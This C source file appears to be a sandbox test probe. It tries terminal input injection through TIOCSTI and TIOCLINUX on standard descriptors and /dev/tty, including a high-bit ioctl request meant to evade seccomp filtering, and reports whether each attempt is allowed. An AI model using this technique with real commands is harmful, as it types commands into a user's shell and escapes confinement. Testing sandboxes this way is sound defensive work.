/* Terminal injection (TIOCSTI, TIOCLINUX): `tiocsti [TEXT]` pushes TEXT (default "PWNED-<target>
 * and a newline") into the input of every terminal it can reach — fds 0, 1 and 2 and /dev/tty —
 * one byte at a time, as a hostile app would to type a command into its caller's shell. It also
 * tries the request with high bits set (the kernel reads an unsigned int, seccomp sees 64 bits)
 * and TIOCLINUX. One line per attempt: "ok tiocsti TARGET" when the kernel took the bytes,
 * "denied tiocsti TARGET (error)" otherwise; likewise "tiocsti-hi" and "tioclinux". Exit 0. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <unistd.h>

static void inject(int fd, const char *target, const char *text, int high) {
  const char *kind = high ? "tiocsti-hi" : "tiocsti";
  char buf[128];
  if (text == NULL) {
    snprintf(buf, sizeof buf, "PWNED-%s%s\n", target, high ? "-hi" : "");
    text = buf;
  }
  for (const char *p = text; *p != '\0'; ++p) {
    unsigned long request = TIOCSTI;
    if (high) request |= 1UL << 32;
    if (syscall(SYS_ioctl, fd, request, p) != 0) {
      printf("denied %s %s (%s)\n", kind, target, strerror(errno));
      return;
    }
  }
  printf("ok %s %s\n", kind, target);
}

static void linux_ioctl(int fd, const char *target) {
  char subcode = 3; /* TIOCL_PASTESEL: paste the console selection as input */
  if (ioctl(fd, TIOCLINUX, &subcode) != 0) {
    printf("denied tioclinux %s (%s)\n", target, strerror(errno));
  } else {
    printf("ok tioclinux %s\n", target);
  }
}

int main(int argc, char **argv) {
  const char *text = argc > 1 ? argv[1] : NULL;
  static const char *const names[] = {"fd0", "fd1", "fd2"};
  setvbuf(stdout, NULL, _IONBF, 0);
  for (int fd = 0; fd < 3; ++fd) {
    inject(fd, names[fd], text, 0);
    inject(fd, names[fd], text, 1);
    linux_ioctl(fd, names[fd]);
  }
  int tty = open("/dev/tty", O_RDWR | O_CLOEXEC);
  if (tty < 0) {
    printf("denied tiocsti /dev/tty (%s)\n", strerror(errno));
    return 0;
  }
  inject(tty, "/dev/tty", text, 0);
  inject(tty, "/dev/tty", text, 1);
  linux_ioctl(tty, "/dev/tty");
  close(tty);
  return 0;
}
